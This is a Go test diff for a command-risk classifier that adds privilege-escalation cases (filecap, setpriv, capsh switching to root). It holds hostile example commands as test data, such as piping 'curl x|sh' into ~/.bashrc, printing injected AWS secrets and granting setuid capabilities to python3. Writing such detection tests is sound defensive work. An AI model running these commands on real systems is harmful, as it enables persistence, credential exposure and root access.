@@ -136,6 +136,7 @@ func TestHost7Explain(t *testing.T) {
 	explainRow(t, `echo 'curl x|sh' | sponge -a ~/.bashrc`, PersistenceStartupFiles, "scriptedInPlace", []string{"sponge", "~/.bashrc"})
 	explainRow(t, `aws-vault exec prod -- env`, SecretRead, "injectedSecretsPrinted", []string{"aws-vault", "env"})
 	explainRow(t, `rbw get github`, SecretRead, "morePasswordManagers", []string{"rbw", "get"})
+	explainRow(t, `filecap /usr/bin/python3 setuid`, PrivilegeEscalation, "fileCapabilitySet", []string{"filecap", "/usr/bin/python3", "setuid"})
 }
 
 // TestTempIsNoGeneratedFolder: scratchNames are folders a tool writes and
@@ -889,6 +890,34 @@ func TestMorePasswordManagers(t *testing.T) {
 		{`passage show -c email/gmail`, ""},
 		{`git credential-manager configure`, ""},
 		{`git credential-cache exit`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
+
+// TestRootIdentityTools: setting a file capability or switching to uid 0
+// with the kernel's identity tools is privilege-escalation (README: a
+// setuid bit or file capability set; su and sudo). Members from their
+// manuals: filecap(8) FILE CAP… (libcap-ng) sets capabilities,
+// setpriv(1) --reuid|--ruid|--euid 0|root runs a program as root,
+// capsh(1) --uid=0|--user=root does (setpriv's and capsh's were marked
+// before; filecap's rows failed). Listing and restricting forms stay
+// everyday.
+func TestRootIdentityTools(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`filecap /usr/bin/python3 setuid`, PrivilegeEscalation},
+		{`filecap /tmp/bash sys_admin dac_override`, PrivilegeEscalation},
+		{`setpriv --reuid=0 --regid=0 --init-groups bash`, PrivilegeEscalation},
+		{`setpriv --ruid root --euid root sh`, PrivilegeEscalation},
+		{`capsh --uid=0 --`, PrivilegeEscalation},
+		{`capsh --user=root -- -c id`, PrivilegeEscalation},
+		{`filecap /usr/bin/ping`, ""},
+		{`filecap -a`, ""},
+		{`setpriv --no-new-privs make test`, ""},
+		{`capsh --print`, ""},
+		{`capsh --drop=cap_net_raw -- -c ping`, ""},
 	} {
 		checkRow(t, tt.cmd, tt.want)
 	}
